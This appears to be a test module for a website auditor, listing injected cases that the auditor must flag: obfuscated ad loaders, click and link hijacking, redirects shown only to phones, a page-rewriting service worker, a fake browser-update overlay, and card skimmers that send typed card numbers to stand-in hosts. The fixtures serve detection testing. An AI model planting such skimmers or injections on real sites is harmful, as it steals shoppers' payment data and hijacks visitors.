"""What must alert: the reference's injected cases and some more of our own."""

import base64

from aiohttp import web

from auditor.evidence import Template
from tests.ads_cases.site import DESKTOP, PHONE, Case, Loads, layer, load_script

AD = layer("http://deals.test/go")
SEVERAL: Loads = ((DESKTOP, "direct"), (PHONE, "direct"), (DESKTOP, "search"), (DESKTOP, "returning"))
TWICE: Loads = tuple(one for one in SEVERAL for _ in range(2))
READY = "addEventListener('load',()=>{%s});"
LOADER = base64.b64encode(load_script("http://adx.test/a.js").encode()).decode()
CARD = '<main><form action="/pay" method="post"><input name="cardnumber" autocomplete="cc-number"></form></main>'


def _phone(request: web.Request) -> bool:
    return "Mobile" in request.headers.get("User-Agent", "")


def _phone_redirect(request: web.Request, page: str) -> web.StreamResponse | str:
    return web.HTTPFound("http://casino.test/") if _phone(request) and request.path.startswith("/p/") else page


def _search_only(request: web.Request, page: str) -> str:
    came = "google." in request.headers.get("Referer", "")
    return page.replace("</body>", '<script src="http://adx.test/a.js"></script></body>') if came else page


def _second_visit(request: web.Request, page: str) -> web.StreamResponse:
    known = "been=1" in request.headers.get("Cookie", "")
    page = page.replace("</body>", '<script src="http://adx.test/a.js"></script></body>') if known else page
    return web.Response(text=page, content_type="text/html", headers={"Set-Cookie": "been=1; Path=/"})


WORKER = """self.addEventListener('install',e=>self.skipWaiting());self.addEventListener('activate',e=>e.waitUntil(clients.claim()));
self.addEventListener('fetch',e=>{if(e.request.mode==='navigate')e.respondWith(fetch(e.request).then(r=>r.text()).then(t=>
new Response(t.replace('</body>','<script src="http://adx.test/a.js"></scr'+'ipt></body>'),{headers:{'content-type':'text/html'}})))});"""
SKIM = "document.addEventListener('input',e=>{if(e.target.name=='cardnumber'&&e.target.value.length>15)%s});"
CATCHER = "position:fixed;left:0;top:0;right:0;bottom:0;z-index:99999"

INJECTED = [
    Case("I01 banner script in served HTML", "alert", "own-server", "", body='<script src="http://adx.test/b.js"></script>', files={"adx.test/b.js": layer("http://adx.test/click")}),
    Case("I02 own app.js tampered", "alert", "own-server", "", more={"app": AD}),
    Case("I03 obfuscated inline loader", "alert", "own-server", "", head=f"<script>eval(atob('{LOADER}'))</script>", files={"adx.test/a.js": READY % AD}),
    Case("I04 custom tag in the tag manager", "alert", "third-party-tag", "tags.test", more={"gtm": "var s=document.createElement('script');s.text=%r;document.head.append(s);" % (READY % AD)}),
    Case("I05 trusted vendor loads a fourth party", "alert", "third-party-tag", "stars.test", more={"stars": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": AD}),
    Case("I06 layer after 60 s", "alert", "third-party-tag", "stars.test", more={"stars": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": f"setTimeout(()=>{{{AD}}},60000)"}),
    Case("I07 closed shadow root", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": "addEventListener('load',()=>{const h=document.createElement('div');document.body.append(h);h.attachShadow({mode:'closed'}).innerHTML='<div style=\"position:fixed;left:0;right:0;bottom:0;height:220px;background:gold;z-index:9\"><a style=\"display:block;height:220px\" href=\"http://deals.test/go\">Offers</a></div>'})"}),
    Case("I08 transparent click catcher", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": READY % f"const d=document.createElement('div');d.style.cssText='{CATCHER}';d.onclick=()=>{{window.open('http://deals.test/pop');d.remove()}};document.body.append(d)"}),
    Case("I09 links rewritten on mousedown", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": "document.addEventListener('mousedown',e=>{const a=e.target.closest('a');if(a)a.href='http://deals.test/r?u='+encodeURIComponent(a.href)},true)"}),
    Case("I10 click turned into a jump", "alert", "third-party-tag", "stars.test", more={"stars": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": "document.addEventListener('click',e=>{if(e.target.closest('a')){e.preventDefault();location.href='http://deals.test/x'}},true)"}),
    Case("I11 pop-under", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": "let done=0;document.addEventListener('click',()=>{if(!done++)window.open('http://deals.test/under')},true)"}),
    Case("I12 script redirect", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": "setTimeout(()=>{location.href='http://casino.test/'},300)"}),
    Case("I13 302 for phones only", "alert", "conditional", "", html=_phone_redirect, loads=TWICE),
    Case("I14 script for search visitors only", "alert", "conditional", "", html=_search_only, loads=TWICE, files={"adx.test/a.js": "window.x=1"}),
    Case("I15 vendor serves phones another file", "alert", "conditional", "stars.test", loads=TWICE, files={"stars.test/stars.js": lambda request: load_script("http://adx.test/a.js") if _phone(request) else "window.y=1", "adx.test/a.js": "window.x=1"}),
    Case("I16 only on the second visit", "alert", "conditional", "", html=_second_visit, loads=TWICE, files={"adx.test/a.js": "window.x=1"}),
    Case("I17 service worker rewrites the page", "alert", "own-server", "", head="<script>navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js')</script>", files={"shop.test/sw.js": WORKER, "adx.test/a.js": "window.x=1"}, loads=((DESKTOP, "returning"),), origin="http://shop.localhost"),
    Case("I18 skimmer to a new host", "alert", "own-server", "", body=CARD, template=Template.CHECKOUT, type_card=True, more={"app": SKIM % "fetch('http://cdn-stat.test/p?d='+btoa(e.target.value),{mode:'no-cors'})"}),
    Case("I19 skimmer to an approved host", "alert", "third-party-tag", "metrics.test", body=CARD, template=Template.CHECKOUT, type_card=True, more={"metrics": SKIM % "navigator.sendBeacon('http://metrics.test/collect',e.target.value)"}),
    Case("I20 hidden affiliate frame", "alert", "third-party-tag", "tags.test", more={"gtm": READY % "const f=document.createElement('iframe');f.src='http://partner.test/click?aff=77';f.width=f.height=1;document.body.append(f)"}),
    Case("I21 price comparison link in the headline", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://compare.test/c.js")}, files={"compare.test/c.js": READY % "const a=document.createElement('a');a.href='http://compare.test/mug';a.textContent=' 12.90 elsewhere';document.querySelector('h1').append(a)"}),
    Case("I23 base64 and new Function", "alert", "third-party-tag", "tags.test", more={"gtm": f"new Function(atob('{base64.b64encode((READY % AD).encode()).decode()}'))();"}),
    Case("I24 ad frame inserted by a trusted tag", "alert", "third-party-tag", "stars.test", more={"stars": READY % "const f=document.createElement('iframe');f.src='http://adx.test/f.html';f.width=300;f.height=250;f.style.border=0;document.querySelector('main').prepend(f)"}, files={"adx.test/f.html": "<body style='margin:0'><a href='http://brand.test/buy' target=_blank style='display:block;width:300px;height:250px;background:tomato'>Buy now</a>"}),
    Case("I25 fake browser update", "alert", "own-server", "", body="<script>addEventListener('load',()=>{const d=document.createElement('div');d.style.cssText='position:fixed;left:0;top:0;right:0;bottom:0;background:#fff;z-index:9999';d.innerHTML='<h2>Your Chrome is out of date</h2><p>Update Chrome to go on.</p><button>Update</button>';document.body.append(d)})</script>"),
    Case("X01 base element points away", "alert", "own-server", "", head='<base href="http://mirror.test/">', bar="<a href='/c/mugs'>Mugs</a>"),
    Case("X02 layer drawn by a style sheet", "alert", "third-party-tag", "stars.test", more={"stars": "const l=document.createElement('link');l.rel='stylesheet';l.href='http://skin.test/s.css';document.head.append(l);"}, files={"skin.test/s.css": "body::before{content:'';position:fixed;left:0;top:0;width:100%;height:70%;background:orange;z-index:999}"}),
    Case("X03 buy button leads away", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": READY % "document.querySelector('.add-to-cart').addEventListener('click',e=>{e.preventDefault();location.href='http://deals.test/mug'})"}),
    Case("X04 hrefs turned round while loading", "alert", "own-server", "", more={"app": "document.querySelectorAll('main a').forEach(a=>a.href='http://deals.test/r?u='+encodeURIComponent(a.href));"}),
    Case("X05 words of the description become links", "alert", "third-party-tag", "stars.test", more={"stars": load_script("http://words.test/w.js")}, files={"words.test/w.js": READY % "const p=document.querySelector('main p:not(.price)');p.innerHTML=p.innerHTML.replace('stoneware','<a href=\"http://deals.test/s\">stoneware</a>')"}),
    Case("X06 cookie stuffed by a picture", "alert", "third-party-tag", "stars.test", more={"stars": READY % "new Image().src='http://partner.test/click?aff=9'"}, files={"partner.test/click": lambda request: web.HTTPFound("http://shop.test/?aff=9")}),
    Case("X07 window opened unasked", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": "setTimeout(()=>window.open('http://deals.test/w'),200)"}),
    Case("X08 banner in the flow of the page", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": READY % "const a=document.createElement('a');a.href='http://adx.test/go';a.style.cssText='display:block;width:728px;height:90px;background:gold';a.textContent='Sale';document.querySelector('main').prepend(a)"}),
    Case("X09 element that jumps when pressed", "alert", "third-party-tag", "tags.test", more={"gtm": load_script("http://adx.test/a.js")}, files={"adx.test/a.js": READY % "const d=document.createElement('div');d.style.cssText='position:fixed;right:0;bottom:0;width:320px;height:250px;background:gold;z-index:99';d.textContent='Win a prize';d.onclick=()=>location.assign('http://prize.test/');document.body.append(d)"}),
]  # fmt: skip
